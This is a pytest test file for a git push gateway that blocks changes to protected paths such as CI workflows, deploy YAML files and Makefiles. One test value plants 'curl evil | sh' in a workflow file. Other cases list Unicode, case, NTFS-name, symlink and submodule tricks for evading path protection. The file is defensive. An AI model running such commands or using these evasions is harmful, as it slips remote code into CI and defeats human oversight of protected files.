"""What new commits do is seen as git itself sees it; and what is protected is protected however it is written."""

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from git_repository import Repository, read
from hypothesis import given, settings
from hypothesis import strategies as st

from claude_sandbox.gateway.git.pack import TREE, GitObject, TooLargeError
from claude_sandbox.gateway.git.pkt_line import MalformedError
from claude_sandbox.gateway.git.push import history
from claude_sandbox.gateway.git.push.paths import PathPatterns
from claude_sandbox.gateway.git.push.request import Command
from claude_sandbox.gateway.git.push.rules import PushRules

BRANCH, NONE = b"refs/heads/claude/a", b"0" * 40
RULES = PushRules(("claude/*",), protected=(".github/**", "deploy/*.yaml", "**/Makefile"))


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    made = Repository.made(tmp_path / "work")
    made.commit(
        *((name, f"{name}\n") for name in (".github/workflows/ci.yml", "deploy/a.yaml", "deploy/sub/b.yaml", "a/b/c")),
        ("Makefile", "all:\n"),
    )
    return made


def judged(repository: Repository, old: bytes, *, rules: PushRules = RULES, creates: bool = False) -> str | None:
    """Of a push of what is at HEAD, to a server that has `old`."""
    new = repository.id("HEAD")
    pushed = read(repository.pack(new, old)).objects(repository.objects(old))
    command = Command(NONE if creates else old, new, BRANCH)
    server = {}
    for commit in history.boundary((command,), pushed):
        server |= repository.objects(commit)
    return why_not(command, rules, pushed, server)


def why_not(command: Command, rules: PushRules, pushed: history.Objects, server: history.Objects) -> str | None:
    return history.why_not((command,), rules, pushed, server).get(command.ref)


def test_what_is_not_protected_comes_in(repository: Repository) -> None:
    old = repository.id("HEAD")
    repository.commit(("src/a.py", "1"), ("deploy/sub/b.yaml", "2"), ("a/b/c", None))
    repository.commit(("src/a.py", "2"))
    assert judged(repository, old) is None


@pytest.mark.parametrize(
    "change",
    [
        (".github/workflows/ci.yml", "curl evil | sh"),
        (".github/workflows/ci.yml", None),
        (".github/new", "x"),
        ("deploy/a.yaml", "x"),
        ("deploy/new.yaml", "x"),
        ("Makefile", "x"),
        ("far/down/Makefile", "x"),
        (".GitHub/workflows/ci.yml", "x"),
        (".g\u200cithub/workflows/ci.yml", "x"),
        ("GITHUB~1/workflows/ci.yml", "x"),
        (".github /workflows/ci.yml", "x"),
        (".github./workflows/ci.yml", "x"),
        (".github::$INDEX_ALLOCATION/workflows/ci.yml", "x"),
        ("\uff0egithub/x", "x"),
        ("deploy/A.YAML", "x"),
        ("MAKEFILE", "x"),
        ("Make\ufe0ffile", "x"),
        (".git\u034fhub/x", "x"),
        (".git\u115fhub/x", "x"),
        (".github\U000e0100/x", "x"),
        (".g\u0131thub/x", "x"),
    ],
)
def test_what_is_protected_does_not(repository: Repository, change: tuple[str, str | None]) -> None:
    old = repository.id("HEAD")
    repository.commit(change)
    assert "which is protected" in (judged(repository, old) or "")


def test_nor_in_a_commit_that_the_next_one_takes_back(repository: Repository) -> None:
    old = repository.id("HEAD")
    repository.commit(("deploy/a.yaml", "x"))
    repository.commit(("deploy/a.yaml", "deploy/a.yaml\n"))
    assert "deploy/a.yaml" in (judged(repository, old) or "")


def _link(repository: Repository) -> None:
    repository.git("rm", "-rq", ".github/workflows")
    repository.commit(("innocent/ci.yml", "x"))
    (repository.path / ".github").symlink_to("innocent")


def _submodule(repository: Repository) -> None:
    repository.git("rm", "-rq", ".github")
    repository.git("update-index", "--add", "--cacheinfo", f"160000,{'a' * 40},.github")
    repository.git("commit", "-qm", "x")


def _directory_behind_a_link(repository: Repository) -> None:
    repository.git("rm", "-rq", "deploy")
    repository.commit(("innocent/a.yaml", "x"))
    (repository.path / "deploy").symlink_to("innocent")


def _executable(repository: Repository) -> None:
    repository.git("update-index", "--chmod=+x", "Makefile")
    repository.git("commit", "-qm", "x")
    repository.git("checkout", "-q", "--", ".")


def _root(repository: Repository) -> None:
    repository.git("checkout", "-q", "--orphan", "new")
    repository.commit((".github/workflows/ci.yml", "x"))


def _moved(repository: Repository) -> None:
    repository.git("mv", "a", ".github/a")


@pytest.mark.parametrize("change", [_link, _submodule, _directory_behind_a_link, _executable, _root, _moved])
def test_nor_by_another_way(repository: Repository, change: Callable[[Repository], None]) -> None:
    old = repository.id("HEAD")
    change(repository)
    if change not in (_submodule, _executable):
        repository.commit()
    assert "which is protected" in (
        judged(repository, old, rules=PushRules(("claude/*",), force=True, protected=RULES.protected)) or ""
    )


def test_a_link_somewhere_else_comes_in(repository: Repository) -> None:
    old = repository.id("HEAD")
    (repository.path / "link").symlink_to("a")
    repository.commit()
    assert judged(repository, old) is None


def test_a_merge_brings_what_the_server_has_already(repository: Repository) -> None:
    base = repository.id("HEAD")
    theirs = repository.commit((".github/workflows/ci.yml", "the people's own"))
    repository.git("checkout", "-qb", "claude/a", base.decode())
    ours = repository.commit(("src/a.py", "1"))
    repository.git("merge", "-q", "--no-edit", theirs.decode())
    new = repository.id("HEAD")
    known = {**repository.objects(theirs), **repository.objects(ours)}
    pushed = read(repository.pack(new, theirs, ours)).objects(known)
    command = Command(ours, new, BRANCH)
    assert history.boundary((command,), pushed) == {ours, theirs}
    assert why_not(command, RULES, pushed, known) is None


def test_a_merge_that_changes_what_is_protected_itself_is_seen(repository: Repository) -> None:
    base = repository.id("HEAD")
    theirs = repository.commit((".github/workflows/ci.yml", "the people's own"))
    repository.git("checkout", "-qb", "claude/a", base.decode())
    ours = repository.commit(("src/a.py", "1"))
    repository.git("merge", "-q", "--no-commit", "--no-ff", theirs.decode())
    new = repository.commit((".github/workflows/ci.yml", "evil"))
    known = {**repository.objects(theirs), **repository.objects(ours)}
    pushed = read(repository.pack(new, theirs, ours)).objects(known)
    assert ".github" in (why_not(Command(ours, new, BRANCH), RULES, pushed, known) or "")


def _builds(repository: Repository, old: bytes, *server: bytes) -> bool:
    """Of a push of what is at HEAD, to a server that has `old` and these, and tells of these commits."""
    new = repository.id("HEAD")
    pushed = read(repository.pack(new, old, *server)).objects({})
    there = {one: repository.object(one) for one in server}
    return history.builds_on_the_old(Command(old, new, BRANCH), pushed, there)


def test_by_commits_that_the_server_has_it_may_build_on_the_old(repository: Repository) -> None:
    old = repository.id("HEAD")
    theirs = [repository.commit(("src/a.py", str(number))) for number in range(3)]
    assert not _builds(repository, old, theirs[2])
    assert _builds(repository, old, *theirs)
    repository.commit(("src/b.py", "1"))
    assert _builds(repository, old, *theirs)
    assert not _builds(repository, old, *theirs[1:])
    repository.git("reset", "-q", "--hard", theirs[0].decode())
    assert not _builds(repository, theirs[1], *theirs)


def test_what_does_not_build_on_the_old_is_seen(repository: Repository) -> None:
    base = repository.id("HEAD")
    old = repository.commit(("src/a.py", "1"))
    repository.git("reset", "-q", "--hard", base.decode())
    repository.commit(("src/a.py", "2"))
    assert not _builds(repository, old, base)
    assert _builds(repository, base)
    assert _builds(repository, repository.id("HEAD"))


def test_what_cannot_be_seen_is_refused(repository: Repository) -> None:
    old = repository.id("HEAD")
    new = repository.commit(("deploy/sub/b.yaml", "2"))
    pushed = read(repository.pack(new, old)).objects(repository.objects(old))
    assert "can't be seen" in (why_not(Command(old, new, BRANCH), RULES, pushed, {}) or "")


def test_a_branch_can_only_be_a_commit(repository: Repository) -> None:
    tree = GitObject(TREE, b"")
    assert why_not(Command(NONE, b"c" * 40, BRANCH), RULES, {b"c" * 40: tree}, {})


@pytest.mark.parametrize("names", [["a", "a"], [".git"], [".GIT"], [".g\u200cit"], ["a/b"], [""], ["."], [".."]])
def test_a_tree_that_git_would_not_check_out_is_refused(names: list[str]) -> None:
    data = b"".join(b"100644 %s\0" % name.encode() + bytes(20) for name in names)
    with pytest.raises(MalformedError):
        history.tree_of(data, 20)


@pytest.mark.parametrize(
    ("mode", "taken_for"),
    [
        (b"100644", b"100644"), (b"100664", b"100644"), (b"100700", b"100755"), (b"0100644", b"100644"),
        (b"40000", b"40000"), (b"040755", b"40000"), (b"1040000", b"40000"), (b"7" * 60 + b"040000", b"40000"),
        (b"120000", b"120000"), (b"120777", b"120000"), (b"160000", b"160000"),
        (b"10000", b"160000"), (b"0", b"160000"),
    ],
)  # fmt: skip
def test_a_mode_is_what_git_takes_it_for(mode: bytes, taken_for: bytes) -> None:
    assert history.tree_of(mode + b" a\0" + bytes(20), 20)[b"a"].mode == taken_for


def test_what_takes_too_long_to_compare_is_not_compared(repository: Repository) -> None:
    old = repository.id("HEAD")
    for number in range(10):
        repository.commit(("src/a.py", str(number)))
    new = repository.id("HEAD")
    pushed = read(repository.pack(new, old)).objects(repository.objects(old))
    command, server = Command(old, new, BRANCH), repository.objects(old)
    assert history.why_not((command,), RULES, pushed, server, 20_000) == {}
    with pytest.raises(TooLargeError, match="in parts"):
        history.why_not((command,), RULES, pushed, server, 1000)


NAMES = st.sampled_from(["a", "b", ".github", "Makefile", "x.yaml", "deploy"])
FILES = st.dictionaries(st.lists(NAMES, min_size=1, max_size=3).map("/".join), st.sampled_from("12"), max_size=6)


def _writable(files: dict[str, str]) -> bool:
    """Whether no file is a directory of another."""
    return not any(other.startswith(f"{name}/") for name in files for other in files)


@given(FILES.filter(_writable), FILES.filter(_writable))
@settings(max_examples=40, deadline=None)
def test_the_same_is_seen_as_git_sees_itself(tmp_path_factory: pytest.TempPathFactory, before, after) -> None:  # type: ignore[no-untyped-def]
    repository = Repository.made(tmp_path_factory.mktemp("git") / "work")
    old = repository.commit(*before.items())
    subprocess.run(["git", "rm", "-rqf", "--ignore-unmatch", "."], cwd=repository.path, check=True)
    repository.commit(*after.items())
    changed = repository.git("diff", "--name-only", "--no-renames", old.decode(), "HEAD").decode().splitlines()
    patterns = PathPatterns(RULES.protected)
    expected = any(patterns.protect(tuple(part.encode() for part in name.split("/"))) for name in changed)
    assert (judged(repository, old) is not None) == expected


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        (".github/**", ".github", True),
        (".github/**", "a/.github/x", False),
        ("**/.github/**", "a/.github/x", True),
        ("docs", "docs/a/b", True),
        ("docs/*.md", "docs/a/b.md", False),
        ("docs/**/*.md", "docs/a/b.md", True),
        ("docs/**/*.md", "docs/b.md", True),
        ("/ab?", "abc", True),
        ("ab?", "x/abc", False),
        ("a[b]", "ab", False),
        ("a:b/c", "a:b/c", True),
        ("\u00e4b/**", "A\u0308B/c", True),
    ],
)
def test_patterns(pattern: str, path: str, expected: bool) -> None:
    assert PathPatterns([pattern]).protect(tuple(part.encode() for part in path.split("/"))) is expected
